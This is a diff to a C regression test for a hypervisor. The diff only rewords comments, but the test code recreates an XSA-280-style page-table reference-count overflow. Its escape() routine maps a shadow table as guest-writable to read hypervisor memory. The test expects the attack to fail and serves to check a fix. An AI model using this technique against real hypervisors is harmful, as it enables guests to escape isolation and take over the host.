@@ -1,11 +1,12 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
 /*
- * Links to one page table that are too many to count (XSA-280 and kin).
- * The count of links to a shadow was 16 bits wide. Tried: 65 537 level-2 entries that name one page
- * table, all of them used, so that the count says 1; then one is taken away, and the shadow, though
- * 65 536 links lead to it, becomes that of a level-2 table. Through the old links its entry, which
- * names another shadow, maps that shadow itself, to be written by the guest: a word of it makes any
- * machine page the guest's. Must happen: memory reads as the tables say. Runs with 128 MiB.
+ * Too many links to one page table (XSA-280 and similar). The count of links to a shadow was 16
+ * bits wide.
+ * Attack: 65 537 level-2 entries name one page table, and all are used, so that the count wraps to
+ * 1. Then one is removed, and the shadow is reused for a level-2 table although 65 536 links still
+ * lead to it. Through these links, an entry that names another shadow maps that shadow as a page
+ * that the guest can write. With it, the guest can map any machine page.
+ * Expected: memory reads as the tables say. Runs with 128 MiB.
  */
 #include "guest.h"
 
@@ -13,10 +14,10 @@
 #define LINKS	    65537
 #define MARK	    0x4d41524bull
 #define VA(i, k, n) (0x8000000000 | (uint64_t)(i) << 30 | (uint64_t)(k) << 21 | (uint64_t)(n) << 12)
-#define ENTRY	    0x100000ull /* where the hypervisor's image lies in the machine */
+#define ENTRY	    0x100000ull /* machine address of the hypervisor's image */
 
-/* Pages from the end of what is in use: 0 the level-3 table; 1 a table that all level-2 tables name
- * in all entries; 2 a page with a mark; 3 and 4 two more tables; then those of level 2. */
+/* Page numbers, from the first unused page: the level-3 table; a table that all entries of all
+ * level-2 tables name; a page with a mark; two more tables; then the level-2 tables. */
 enum { LEVEL3, TABLE, MARKED, OTHER2, OTHER1, LEVEL2 };
 static uint64_t first;
 
@@ -53,15 +54,15 @@ static void make_tables(void)
 	veneer_root()[1] = link_to(LEVEL3);
 }
 
-/* The old links' entry k maps a shadow table, if anything else than the mark is there. Its entry 1
- * is for VA(400, k, 1), which the guest's own tables do not map. */
+/* If entry k reads as anything but the mark through the old links, it maps a shadow table, whose
+ * entry 1 is for VA(400, k, 1). The guest's own tables do not map that. */
 static void escape(unsigned k)
 {
 	volatile uint64_t *shadow = (volatile uint64_t *)VA(0, 0, k);
 
 	say("entry 0 of a shadow table is %p\n", (void *)shadow[0]);
 	shadow[1] = ENTRY | P;
-	veneer_hypercall(VENEER_HC_MMU_FLUSH, 0, 0, 0); /* of nothing */
+	veneer_hypercall(VENEER_HC_MMU_FLUSH, 0, 0, 0); /* an empty range */
 	say("and the hypervisor's first words are %p %p\n", (void *)read_at(VA(400, k, 1)),
 	    (void *)read_at(VA(400, k, 1) + 8));
 	expect(false, "the guest reads the hypervisor");
@@ -80,7 +81,7 @@ int guest_main(const struct veneer_start_info *info)
 	page(LEVEL2 + (LINKS - 1) / 512)[(LINKS - 1) % 512] = 0;
 	veneer_hypercall(VENEER_HC_MMU_FLUSH, VA((LINKS - 1) / 512, (LINKS - 1) % 512, 5), 4096, 0);
 	for (unsigned k = 0; k < 8; k++)
-		expect(read_at(VA(400, k, 0)) == MARK, "tables made anew are read");
+		expect(read_at(VA(400, k, 0)) == MARK, "new tables read correctly");
 	for (unsigned k = 0; k < 8; k++)
 		if (read_at(VA(0, 0, k)) != MARK) {
 			escape(k);
@@ -88,7 +89,7 @@ int guest_main(const struct veneer_start_info *info)
 		}
 	for (unsigned n = 0; n < LINKS - 1; n++)
 		expect(read_at(VA(n / 512, n % 512, n % 512)) == MARK,
-		       "the other links lead there");
+		       "the other links still lead to the page");
 	say("%d links led where they must\n", LINKS - 1);
 	return 0;
 }
